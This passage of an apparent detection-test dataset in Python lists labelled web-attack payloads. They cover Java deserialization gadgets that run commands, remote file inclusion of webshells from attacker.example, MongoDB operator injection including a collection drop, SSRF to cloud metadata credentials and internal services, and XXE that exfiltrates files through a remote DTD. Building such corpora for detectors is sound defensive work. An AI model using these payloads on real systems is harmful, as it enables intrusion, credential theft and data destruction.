     "XMLDecoder ProcessBuilder"),
    ('<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n'
     '    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n'
     '        <command><string>id</string></command>\n      </target>\n      <action>start</action>\n'
     '    </handler>\n  </dynamic-proxy>\n</sorted-set>\n', "XStream dynamic-proxy EventHandler"),
    ('<map>\n  <entry>\n    <jdk.nashorn.internal.objects.NativeString>\n      <flags>0</flags>\n'
     '      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">\n'
     '        <dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">\n'
     '          <is class="javax.crypto.CipherInputStream"/></dataSource></dataHandler>\n      </value>\n'
     '    </jdk.nashorn.internal.objects.NativeString>\n  </entry>\n</map>\n', "XStream NativeString gadget (shape)"),
    ('<?xml version="1.0"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n'
     '<soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n'
     '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1">'
     '<void index="0"><string>id</string></void></array><void method="start"/></object></java>\n'
     '</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>\n', "WebLogic WorkContext XMLDecoder"),
    ('<?xml version="1.0" encoding="UTF-8"?>\n<beans xmlns="http://www.springframework.org/schema/beans">\n'
     '  <bean id="pb" class="java.lang.ProcessBuilder" init-method="start">\n    <constructor-arg>\n'
     '      <list><value>bash</value><value>-c</value><value>id</value></list>\n    </constructor-arg>\n  </bean>\n</beans>\n',
     "Spring bean XML ProcessBuilder"),
]

# ----- Remote file inclusion -----------------------------------------------
# A URL to a foreign host in a parameter that includes files, typically with a trailing
# `?`/`%00`/`#` to cut off the extension the app appends, or pointing at a script/shell file;
# also ftp://, UNC shares, IP-literal hosts.  (A URL to a public host in a url=/avatar= field is
# benign; a URL to internal/metadata hosts is ssrf: see README.)
RFI_GROUPS = [
    ("remote URL with truncation (?, #, NUL)", [
        "http://attacker.example/shell.txt?", "http://attacker.example/c99.txt?", "https://evil.example/r57.txt??",
        "http://attacker.example/x.txt#", "http://attacker.example/inc.txt\x00", "http://198.51.100.7/s.txt?",
        "https://attacker.example/backdoor.txt?&", "http://attacker.example/?", "http://attacker.example/t.txt?x=",
        "hTtP://attacker.example/s.txt?", "http://attacker.example/log.php\x00.html", "http://attacker.example/shell.gif?",
        "http://attacker.example:8080/s.txt?", "https://attacker.example/inc.txt%3F", "http://attacker.example/a.txt?.php",
        "http://user:pass@attacker.example/s.txt?", "http://attacker.example/s.txt?/", "//attacker.example/shell.txt?",
    ]),
    ("remote script / shell file", [
        "https://evil.example/r57.php", "http://attacker.example/inc.php?cmd=id", "http://attacker.example/jsp/cmd.jsp",
        "http://attacker.example/shell.aspx", "https://attacker.example/wso.php", "http://attacker.example/b374k.php",
        "https://pastebin.com/raw/AbC123xy?", "https://raw.githubusercontent.com/someone/tools/main/webshell.php",
        "http://203.0.113.66/uploads/x.phtml", "http://attacker.example/s.php5", "https://attacker.example/x.jspx",
        "http://attacker.example/mod.inc", "https://attacker.example/evil.js?", "http://attacker.example/lib/shell.pl",
        "//attacker.example/r.php", "http://attacker.example/config.php.txt", "http://attacker.example/p.cgi?",
    ]),
    ("ftp / UNC / IP literal host", [
        "ftp://anonymous:x@attacker.example/pub/s.php", "ftp://198.51.100.7/shell.txt", "ftps://attacker.example/inc.txt?",
        "\\\\attacker.example\\share\\shell.php", "\\\\198.51.100.7\\c$\\x.php", "\\\\attacker.example@SSL\\DavWWWRoot\\s.php",
        "//198.51.100.7/share/inc.php", "http://3325256711/shell.txt?", "http://0xc6336407/x.txt?", "http://0306.063.0144.07/s.txt?",
        "http://[2001:db8::7]/s.txt?", "file://attacker.example/share/s.php", "smb://attacker.example/share/s.php",
        "http:\\\\attacker.example\\s.txt?", "https:/\\attacker.example/s.txt", "http:/attacker.example/s.txt?",
    ]),
    ("remote include via parameter chain", [
        "http://attacker.example/s.txt?&cmd=id", "http://attacker.example/%3Fx%3D", "https://attacker.example/inc?file=s.txt&",
        "http://attacker.example/redirect?to=/shell.txt?", "http://attacker.example/s.txt?&page=",
    ]),
]

RFI_EVASIONS = [
    ("HTTP://ATTACKER.EXAMPLE/S.TXT?", "upper case"),
    ("http://attacker.example/s.txt?\t", "trailing tab"),
    ("  http://attacker.example/s.txt?", "leading spaces"),
    ("http://attacker\u3002example/s.txt?", "ideographic full stop in host (IDNA maps to '.')"),
    ("http://\uff41ttacker.example/s.txt?", "full-width letter in host (NFKC/IDNA)"),
    ("http://attacker.example/s.txt?\u0000", "trailing NUL after ?"),
    ("h\ttp://attacker.example/s.txt?", "tab inside scheme (URL parsers strip it)"),
    ("http://attacker.example/s.txt%00", "literal %00 inside value (double-decoding sink)"),
    ("http://attacker.example/s%2etxt?", "literal %2e inside value"),
]

RFI_RAW = [
    ("http://attacker.example/shell.txt%00", "%00 truncation"),
    ("http%3A%2F%2Fattacker.example%2Fshell.txt%3F", "URL-encoded"),
    ("http%3a%2f%2fattacker.example%2fs.txt%23", "URL-encoded, '#'"),
    ("http://attacker.example/shell.txt%3F", "%3F truncation"),
    ("http://attacker.example/s.txt?%00", "?%00"),
    ("http%253A%252F%252Fattacker.example%252Fs.txt%253F", "double URL-encoding"),
    ("%68%74%74%70%3a%2f%2fattacker.example%2fs.txt%3f", "encoded scheme letters"),
    ("%5C%5Cattacker.example%5Cshare%5Cs.php", "encoded UNC path"),
    ("ftp%3A%2F%2F198.51.100.7%2Fshell.txt%00", "encoded ftp, %00"),
    ("http://attacker.example/s.txt%23", "%23 truncation"),
    ("http://attacker.example/s.txt?%2500", "double-encoded NUL"),
    ("//attacker.example/s.txt%00", "protocol-relative, %00"),
    ("http:%2F%2Fattacker.example%2Fs.php", "encoded slashes only"),
]

_RF_SRC = ["http://attacker.example/shell.txt?", "https://evil.example/r57.php", "ftp://198.51.100.7/shell.txt",
           "\\\\attacker.example\\share\\shell.php", "http://3325256711/shell.txt?", "http://attacker.example/x.txt#"]

RFI_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _RF_SRC[0:3]),
    ("double URL-encoding", enc_double, "raw", _RF_SRC[2:5]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _RF_SRC[4:6]),
    ("JSON \\u002f escapes", identity, "json:/", _RF_SRC[0:3]),
    ("XML character references of : and /", identity, "xml:/:", _RF_SRC[0:3]),
    ("mixed case", mixcase, "plain", _RF_SRC[0:2]),
]

# Whole query strings: the include parameter plus the shell's own command parameter.
RFI_QS = [
    ("page=http://attacker.example/s.txt?&cmd=id", "include param plus command param", "query"),
    ("file=http%3A%2F%2Fattacker.example%2Fc99.txt%3F&act=cmd", "include param plus shell action", "query"),
    ("lang=http://198.51.100.7/s.txt%00&c=uname%20-a", "lang include, %00, command param", "query"),
    ("include=ftp://attacker.example/s.php&x=1", "ftp include", "query"),
    ("template=https://evil.example/t.txt%3F&debug=1", "template include", "query"),
    ("mosConfig_absolute_path=http://attacker.example/s.txt?", "classic CMS config-path include", "query"),
    ("GLOBALS%5Bpath%5D=http://attacker.example/inc.txt?", "GLOBALS[...] override include", "query_name"),
    ("_SERVER%5BDOCUMENT_ROOT%5D=http://attacker.example/s.txt?", "_SERVER[...] override include", "query_name"),
    ("base_dir=http://attacker.example/&page=s.txt?", "base_dir pointing at a foreign host", "query"),
]

# ----- NoSQL (MongoDB) operator injection ----------------------------------
# Operators where the app expects a scalar: as JSON objects in a JSON body, in qs/bracket
# syntax (user[$ne]=x) in query strings and form bodies, JSON text in a parameter the app parses,
# and JavaScript in $where / string-concatenated $where clauses.
NOSQLI_OBJ = [
    ({"$ne": None}, "$ne null"), ({"$ne": ""}, "$ne empty"), ({"$ne": "x"}, "$ne value"), ({"$gt": ""}, "$gt empty"),
    ({"$gte": 0}, "$gte 0"), ({"$lt": "~"}, "$lt high char"), ({"$regex": ".*"}, "$regex .*"), ({"$regex": "^a"}, "$regex prefix"),
    ({"$regex": "^adm", "$options": "i"}, "$regex with $options"), ({"$exists": True}, "$exists"),
    ({"$in": ["admin", "root", "administrator"]}, "$in user list"), ({"$nin": [""]}, "$nin"), ({"$not": {"$eq": "x"}}, "$not $eq"),
    ({"$where": "sleep(5000) || true"}, "$where sleep"), ({"$where": "this.password.match(/^a.*/)"}, "$where this.password.match"),
    ({"$where": "function() { return this.role == 'admin' }"}, "$where function"),
    ({"$where": "function(){var d=new Date();do{var c=new Date();}while(c-d<5000);return true;}"}, "$where busy-wait delay"),
    ({"$or": [{"username": "admin"}, {"username": {"$ne": None}}]}, "$or with $ne"), ({"$expr": {"$eq": [1, 1]}}, "$expr tautology"),
    ({"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}, "$expr on password field"),
    ({"$expr": {"$function": {"body": "function() { sleep(5000); return true; }", "args": [], "lang": "js"}}}, "$expr $function JS"),
    ({"$function": {"body": "function(){return db.getSiblingDB('admin')}", "args": [], "lang": "js"}}, "$function JS"),
    ([{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}], "$lookup into users"),
    ([{"$unionWith": {"coll": "users", "pipeline": [{"$project": {"password": 1}}]}}], "$unionWith users"),
    ({"$elemMatch": {"$ne": None}}, "$elemMatch $ne"), ({"$type": 2}, "$type operator"), ({"$mod": [1, 0]}, "$mod tautology"),
    ({"$where": "1==1"}, "$where 1==1"), ({"$regex": "^.{8,}$"}, "$regex length probe"), ({"$nor": [{"a": 1}]}, "$nor"),
    ({"$jsonSchema": {"required": ["password"]}}, "$jsonSchema probe"), ({"$all": []}, "$all empty"),
    ({"$size": {"$gt": 0}}, "$size nested"), ({"$where": "Object.keys(this)[1].match(/^pass/)"}, "$where key enumeration"),
]

NOSQLI_GROUPS = [
    ("JS injection into $where string", [
        "';return true;var a='", "' || '1'=='1", "'; return this.password.length > 0; var x='", '"; return true; var z="',
        "1; sleep(5000)", "';sleep(5000);'", "' && this.password.match(/.*/)//", "'||1==1//", "a'; while(true){}; var b='",
        "true, $where: '1 == 1'", "', $where: 'sleep(5000)', a: '", "0;return true", "'; db.users.drop(); var x='",
        "admin' && this.password[0] == 'a' && '1'=='1", "\\'; return db.version(); var x=\\'", "';it=new Date();do{}while(new Date()-it<5000);'",
        "1 || 1==1", "'||this.role=='admin'||'", "x' ; return /.*/.test(this.password) ; '",
    ]),
    ("operator JSON as text in a parameter", [
        '{"$ne": null}', '{"username": {"$ne": null}, "password": {"$ne": null}}', '{"$gt": ""}', '{"$regex": ".*"}',
        '{"$where": "sleep(5000)"}', '{"email": {"$regex": "@example.com$"}, "password": {"$exists": true}}',
        '{"role": {"$in": ["admin"]}}', '[{"$match": {}}, {"$lookup": {"from": "users", "localField": "a", "foreignField": "b", "as": "c"}}]',
        '{"$or": [{}, {"a": 1}]}', '{"$expr": {"$eq": [1, 1]}}',
    ]),
]

NOSQLI_EVASIONS = [
    ('{"\\u0024ne": null}', "JSON \\u0024 escape inside operator text"),
    ('{"$ne"  :  null }', "extra whitespace"),
    ("{'$ne': null}", "single-quoted (JS object syntax)"),
    ('{"$where":"sleep(5000)"}', "compact"),
    ("';\nreturn true;\nvar a='", "newlines in $where injection"),
    ("'\t||\t'1'=='1", "tabs in $where injection"),
]

# Whole query strings / form bodies with bracket (qs) syntax.
NOSQLI_QS = [
    ("username=admin&password%5B%24ne%5D=x", "password[$ne]"),
    ("username%5B%24ne%5D=nobody&password%5B%24ne%5D=nobody", "username[$ne] and password[$ne]"),
    ("user%5B$regex%5D=%5Ea&pass%5B$ne%5D=1", "user[$regex] with raw $"),
    ("login%5B%24gt%5D=&password%5B%24gt%5D=", "[$gt] empty"),
    ("email%5B%24regex%5D=.*%40example.com&password%5B%24exists%5D=true", "[$regex] and [$exists]"),
    ("id%5B%24in%5D%5B%5D=1&id%5B%24in%5D%5B%5D=2", "id[$in][]"),
    ("username%5B%24nin%5D%5B%5D=admin&password%5B%24ne%5D=", "[$nin][]"),
    ("password%5B%24regex%5D=%5Ea.*&username=admin", "password[$regex]"),
    ("q%5B%24where%5D=sleep(5000)", "q[$where]"),
    ("filter%5Brole%5D%5B%24ne%5D=user", "filter[role][$ne]"),
    ("token%5B%24ne%5D=1", "reset token[$ne]"),
    ("username=admin&password%5b%24ne%5d=1", "lowercase-hex brackets"),
    ("user%5B$ne%5D=x&pass%5B$ne%5D=x&submit=Login", "raw $ in [$ne]"),
    ("search%5B%24where%5D=this.password.length%3E0", "[$where] JS"),
    ("price%5B%24gt%5D=0&price%5B%24lt%5D=999999&owner%5B%24ne%5D=me", "[$gt]/[$lt]/[$ne] mix"),
    ("username%5B%24regex%5D=%5E.%7B8%7D%24&password%5B%24ne%5D=", "[$regex] length probe"),
    ("user.%24ne=x", "dotted $ne"),
    ("username%5B%24eq%5D=admin&password%5B%24not%5D%5B%24eq%5D=x", "[$not][$eq]"),
    ("apikey%5B%24exists%5D=true", "apikey[$exists]"),
    ("code%5B%24regex%5D=%5E1", "OTP code[$regex]"),
]

NOSQLI_RAW = [
    ("%7B%22%24ne%22%3Anull%7D", "URL-encoded operator JSON"),
    ("%7B%22%24gt%22%3A%22%22%7D", "URL-encoded $gt"),
    ("%27%3Breturn%20true%3Bvar%20a%3D%27", "URL-encoded $where breakout"),
    ("%27%20%7C%7C%20%271%27%3D%3D%271", "URL-encoded || tautology"),
    ("%257B%2522%2524ne%2522%253Anull%257D", "double-encoded operator JSON"),
]

_NQ_SRC = ["';return true;var a='", "' || '1'=='1", '{"$ne": null}', '{"$gt": ""}']

NOSQLI_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _NQ_SRC[0:3]),
    ("JSON \\u escapes", identity, "json:$'", _NQ_SRC),
]

# ----- Server-side request forgery -----------------------------------------
# URLs to cloud metadata services, loopback, private ranges and internal services in
# URL-taking parameters, in many spellings of the same address, with non-HTTP schemes and URL
# parser confusions.  (Loopback/internal in an OAuth redirect_uri or in a Referer is a browser
# redirect, not a server fetch: benign, see README.)
SSRF_GROUPS = [
    ("cloud metadata (AWS/GCP/Azure/Alibaba/Oracle/DigitalOcean)", [
        "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/user-data", "http://169.254.169.254/latest/api/token",
        "http://169.254.169.254/latest/dynamic/instance-identity/document", "http://169.254.169.254/latest/meta-data/iam/info",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://metadata.google.internal/computeMetadata/v1beta1/project/project-id", "http://metadata/computeMetadata/v1/",
        "http://169.254.169.254/computeMetadata/v1/instance/hostname",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
        "http://100.100.100.200/latest/meta-data/", "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://169.254.169.254/opc/v2/instance/", "http://169.254.169.254/metadata/v1.json", "http://169.254.170.2/v2/credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://instance-data/latest/meta-data/", "http://169.254.169.254",
        "https://169.254.169.254/latest/meta-data/hostname", "http://169.254.169.254/openstack/latest/meta_data.json",
        "http://metadata.tencentyun.com/latest/meta-data/", "http://169.254.169.254/hetzner/v1/metadata",
    ]),
    ("metadata address, alternative spellings", [
        "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/latest/meta-data/", "http://0xA9.0xFE.0xA9.0xFE/latest/",
        "http://0251.0376.0251.0376/latest/meta-data/", "http://025177524776/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/", "http://169.254.43518/latest/meta-data/",
        "http://169.16689662/latest/meta-data/", "http://0xa9.254.0251.0xfe/", "http://169.254.169.254:80/latest/meta-data/",
        "http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "http://a9fea9fe.nip.io/latest/", "http://0x00a9fea9fe/latest/meta-data/",
        "http://00251.00376.00251.00376/", "http://169.254.169.254./latest/meta-data/",
    ]),
    ("loopback", [
        "http://127.0.0.1/", "http://127.0.0.1/admin", "http://127.1/", "http://127.0.1:80/server-status", "http://0/",
        "http://0.0.0.0:22/", "http://0x7f000001/", "http://0x7f.0x0.0x0.0x1/", "http://2130706433/", "http://017700000001/",
        "http://0177.0.0.1/", "http://[::1]/", "http://[0:0:0:0:0:0:0:1]/", "http://[::]:80/", "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/", "http://localhost/admin", "http://LOCALHOST:8080/manage/env", "http://localhost.localdomain/",
        "http://127.0.0.1.nip.io/", "http://localtest.me/", "http://127.127.127.127/", "https://127.0.0.1:8443/actuator/env",
        "http://localhost:8080/actuator/heapdump", "http://127.0.0.1:80@localhost/", "http://[0000::1]:80/", "http://[::1]:6379/",
        "http://127.0.0.1:22", "http://localhost/server-status", "http://0.0.0.0/", "http://[::]/", "http://127.000.000.001/",
        "http://localhost:3000/internal/admin/users",
    ]),
    ("internal service", [
        "http://127.0.0.1:2375/containers/json", "http://localhost:2375/v1.24/containers/json", "http://127.0.0.1:8500/v1/agent/self",
        "http://localhost:9200/_cat/indices", "https://127.0.0.1:10250/pods", "http://127.0.0.1:2379/v2/keys/?recursive=true",
        "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "http://10.0.0.1/admin", "http://192.168.0.1/",
        "http://172.16.0.10:8080/manager/html", "http://10.96.0.1:443/version", "http://consul.service.consul:8500/v1/kv/?recurse",
        "http://redis.internal:6379/", "http://jenkins.internal:8080/script", "http://10.0.0.12:8500/v1/kv/?recurse",
        "http://192.168.1.1/cgi-bin/luci", "http://172.17.0.1:5000/v2/_catalog", "http://elasticsearch:9200/_search?q=*",
        "http://127.0.0.1:15000/config_dump", "http://localhost:4040/api/tunnels", "http://127.0.0.1:9090/api/v1/targets",
        "http://10.10.10.10:8081/", "http://internal-api.svc.cluster.local/v1/users",
    ]),
    ("non-HTTP scheme to internal host", [
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "gopher://localhost:11211/_stats%0D%0A",
        "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40b%3E%0D%0A", "gopher://127.0.0.1:3306/_%a3%00%00%01",
        "dict://127.0.0.1:11211/stats", "dict://localhost:6379/info", "file:///etc/hostname", "file://localhost/etc/hosts",
        "file:///proc/net/arp", "file:///var/run/secrets/kubernetes.io/serviceaccount/token", "netdoc:///etc/passwd",
        "jar:http://127.0.0.1:8080/x.jar!/", "ldap://127.0.0.1:389/dc=internal", "sftp://127.0.0.1:22/", "tftp://127.0.0.1:69/x",
        "ftp://127.0.0.1:21/", "gopher://169.254.169.254:80/_GET%20/latest/meta-data/%20HTTP/1.0%0D%0A%0D%0A",
        "php://filter/resource=http://127.0.0.1/admin", "dict://10.0.0.5:6379/CONFIG%20SET%20dir%20/tmp",
        "file:///c:/windows/system32/drivers/etc/hosts",
    ]),
    ("URL parser confusion", [
        "http://allowed.example.com@169.254.169.254/", "http://169.254.169.254#@allowed.example.com/",
        "http://allowed.example.com.169.254.169.254.nip.io/", "http://169.254.169.254\\@allowed.example.com/",
        "http://169.254.169.254:80\\@allowed.example.com/", "http://allowed.example.com&@169.254.169.254#@allowed.example.com/",
        "http://127.0.0.1:80#@allowed.example.com/", "http://allowed.example.com@127.0.0.1:8080/admin",
        "https://allowed.example.com%40127.0.0.1/", "http://127.0.0.1%2523@allowed.example.com/", "http://[::1]#.allowed.example.com",
        "http://allowed.example.com:80@[::1]/", "http://localhost%00.allowed.example.com/", "http:/\\/127.0.0.1/",
        "http:127.0.0.1/admin", "//169.254.169.254/latest/meta-data/", "\\\\169.254.169.254\\latest",
        "http://169.254.169.254%09/latest/", "http://allowed.example.com\uff0f@169.254.169.254/",
    ]),
    ("redirect / DNS tricks to an internal target", [
        "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
        "http://attacker.example/302.php?u=http://127.0.0.1:8080/admin", "http://7f000001.a9fea9fe.rbndr.us/",
        "http://a9fea9fe.7f000001.rbndr.us/latest/meta-data/", "http://make-127-0-0-1-rr.1u.ms/",
    ]),
]

SSRF_EVASIONS = [
    ("http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/", "enclosed alphanumerics (NFKC to 169.254.169.254)"),
    ("http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/", "enclosed alphanumerics (NFKC to 127.0.0.1)"),
    ("http://127\u30020\u30020\u30021/", "ideographic full stops (IDNA maps to '.')"),
    ("http://\uff11\uff16\uff19.\uff12\uff15\uff14.\uff11\uff16\uff19.\uff12\uff15\uff14/", "full-width digits (NFKC)"),
    ("HTTP://LOCALHOST/ADMIN", "upper case"),
    ("http://LocalHost:80/", "mixed case"),
    ("http://169.254.169.254/latest/meta-data/\t", "trailing tab"),
    ("  http://127.0.0.1/", "leading spaces"),
    ("http://127.0.0.1/%2e%2e/admin", "literal %2e%2e in path"),
    ("h\nttp://127.0.0.1/", "newline in scheme (WHATWG parsers strip it)"),
]

SSRF_RAW = [
    ("http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "URL-encoded"),
    ("http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F", "double URL-encoding"),
    ("http://169.254.169.254%2Flatest%2Fmeta-data", "encoded path slashes"),
    ("http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/", "percent-encoded digits"),
    ("http://127.0.0.1%23@allowed.example.com/", "%23 before @"),
    ("http://%6c%6f%63%61%6c%68%6f%73%74/", "percent-encoded localhost"),
    ("gopher%3A%2F%2F127.0.0.1%3A6379%2F_INFO", "encoded gopher"),
    ("http://[::ffff:169.254.169.254]/", "IPv6-mapped in query (brackets raw)"),
    ("http%3A%2F%2F%5B%3A%3A1%5D%2F", "encoded [::1]"),
    ("dict%3A%2F%2F127.0.0.1%3A11211%2Fstats", "encoded dict"),
    ("http://0x7f000001%2Fadmin", "hex IP, encoded slash"),
    ("file%3A%2F%2F%2Fetc%2Fhostname", "encoded file://"),
]

_SS_SRC = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1/", "http://[::1]/", "http://2852039166/latest/meta-data/",
           "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
           "http://localhost/admin", "dict://127.0.0.1:11211/stats", "http://allowed.example.com@169.254.169.254/"]

SSRF_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _SS_SRC[0:3]),
    ("double URL-encoding", enc_double, "raw", _SS_SRC[3:6]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _SS_SRC[5:8]),
    ("mixed case", mixcase, "plain", [_SS_SRC[4], _SS_SRC[5]]),
    ("JSON \\u002f escapes", identity, "json:/.", _SS_SRC[0:5]),
    ("XML character references of . and /", identity, "xml:./", _SS_SRC[0:4]),
]

# Bare hosts in host-taking parameters (host=, server=, proxy=): only the unmistakable ones.
SSRF_HOSTS = [
    ("169.254.169.254:80", "bare metadata host:port"), ("metadata.google.internal", "bare GCP metadata host"),
    ("[fd00:ec2::254]", "bare AWS IPv6 metadata host"), ("100.100.100.200:80", "bare Alibaba metadata host"),
    ("0xa9fea9fe", "bare hex metadata address"), ("2852039166", "bare decimal metadata address"),
]

# ----- XML external entities and other XML-level inclusion ------------------
# Labelled by what the parser is made to fetch: a local file is traversal, an internal or
# metadata URL is ssrf, a DTD or document from a foreign host is rfi, expect:// is php.
# (cls, internal subset, external id, reference in the element text, note)
XXE_CASES = [
    ("traversal", '<!ENTITY xxe SYSTEM "file:///etc/passwd">', "", "&xxe;", "XXE SYSTEM file:///etc/passwd"),
    ("traversal", '<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">', "", "&xxe;", "XXE SYSTEM file:///c:/windows/win.ini"),
    ("traversal", '<!ENTITY xxe SYSTEM "file:///proc/self/environ">', "", "&xxe;", "XXE SYSTEM /proc/self/environ"),
    ("traversal", '<!ENTITY x SYSTEM "/etc/shadow">', "", "&x;", "XXE SYSTEM path without scheme"),
    ("traversal", '<!ENTITY x SYSTEM "../../../../etc/passwd">', "", "&x;", "XXE SYSTEM relative ../ path"),
    ("traversal", '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">', "", "&xxe;",
     "XXE with php://filter on a system file"),
    ("traversal", '<!ENTITY xxe SYSTEM "netdoc:/etc/passwd">', "", "&xxe;", "XXE Java netdoc:"),
    ("traversal", '<!ENTITY xxe SYSTEM "file:///home/">', "", "&xxe;", "XXE directory listing (Java)"),
    ("traversal", '<!ENTITY xxe SYSTEM "jar:file:///var/www/uploads/x.zip!/x.txt">', "", "&xxe;", "XXE jar:file:"),
    ("traversal", '<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "http://attacker.example/oob.dtd">%dtd;',
     "", "&send;", "XXE out-of-band exfiltration of a local file via a remote DTD"),
    ("traversal", '<!ENTITY % p SYSTEM "file:///etc/passwd">', "", "x", "XXE parameter entity to a local file"),
    ("traversal", '<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">', "", "&xxe;",
     "XXE to the service-account token"),
    ("traversal", '<!ENTITY xxe SYSTEM "FILE:///ETC/PASSWD">', "", "&xxe;", "XXE upper-case scheme"),
    ("traversal", "<!ENTITY xxe SYSTEM 'file:///etc/group'>", "", "&xxe;", "XXE single-quoted system id"),
    ("traversal", '<!ENTITY  xxe  SYSTEM  "file:///etc/passwd"  >', "", "&xxe;", "XXE extra whitespace"),
    ("traversal", "", 'SYSTEM "file:///etc/passwd"', "x", "external DTD subset is a local file"),
    ("ssrf", '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">', "", "&xxe;",
     "XXE SYSTEM to cloud metadata"),
    ("ssrf", '<!ENTITY xxe SYSTEM "http://127.0.0.1:8080/admin">', "", "&xxe;", "XXE SYSTEM to loopback admin"),
    ("ssrf", '<!ENTITY xxe SYSTEM "http://10.0.0.12:8500/v1/kv/?recurse">', "", "&xxe;", "XXE SYSTEM to an internal service"),
    ("ssrf", '<!ENTITY xxe PUBLIC "-//x//y" "http://localhost:9200/_cat/indices">', "", "&xxe;", "XXE PUBLIC id to loopback"),
    ("ssrf", '<!ENTITY % p SYSTEM "http://metadata.google.internal/computeMetadata/v1beta1/?recursive=true">%p;', "", "x",
     "XXE parameter entity to GCP metadata"),
    ("ssrf", '<!ENTITY xxe SYSTEM "gopher://127.0.0.1:6379/_INFO">', "", "&xxe;", "XXE gopher to Redis"),
    ("ssrf", "", 'SYSTEM "http://127.0.0.1:2375/containers/json"', "x", "external DTD subset on loopback"),
    ("ssrf", '<!ENTITY xxe SYSTEM "http://[::1]:8500/v1/agent/self">', "", "&xxe;", "XXE to [::1]"),
    ("rfi", '<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;', "", "&send;", "XXE parameter entity loads a remote DTD"),
    ("rfi", "", 'SYSTEM "https://attacker.example/x.dtd"', "x", "external DTD subset from a foreign host"),
    ("rfi", "", 'PUBLIC "-//A//B" "http://198.51.100.7/a.dtd"', "&e;", "PUBLIC external DTD from an IP-literal host"),
    ("rfi", '<!ENTITY xxe SYSTEM "http://attacker.example/payload.txt">', "", "&xxe;", "XXE SYSTEM entity from a foreign host"),
    ("rfi", '<!ENTITY % a SYSTEM "ftp://attacker.example/x.dtd">%a;', "", "x", "XXE parameter entity over ftp"),
    ("php", '<!ENTITY xxe SYSTEM "expect://id">', "", "&xxe;", "XXE expect:// command"),
    ("php", '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">', "", "&xxe;",
     "XXE php://filter on the app's own source"),
]

# Whole XML documents: XInclude and XSLT document() loads.
XML_DOC_CASES = [
    ("traversal", '<?xml version="1.0"?>\n<root xmlns:xi="http://www.w3.org/2001/XInclude">\n  <xi:include parse="text" href="file:///etc/passwd"/>\n</root>\n',
     "XInclude of a local file"),
    ("traversal", '<data xmlns:xi="http://www.w3.org/2001/XInclude"><foo><xi:include href="/etc/shadow" parse="text"/></foo></data>',
     "XInclude of an absolute path (no prolog)"),
    ("rfi", '<?xml version="1.0"?>\n<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://attacker.example/x.xml"/></doc>\n',
     "XInclude of a document on a foreign host"),
    ("ssrf", '<?xml version="1.0"?>\n<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="http://169.254.169.254/latest/meta-data/"/></r>\n',
     "XInclude of cloud metadata"),
    ("traversal", '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n'
     '<xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/></xsl:template>\n</xsl:stylesheet>\n',
     "XSLT document() on a local file"),
    ("java", '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">\n'
     '<xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:value-of select="rt:exec($r,\'id\')"/></xsl:template>\n</xsl:stylesheet>\n',
     "XSLT Xalan Java extension Runtime.exec"),
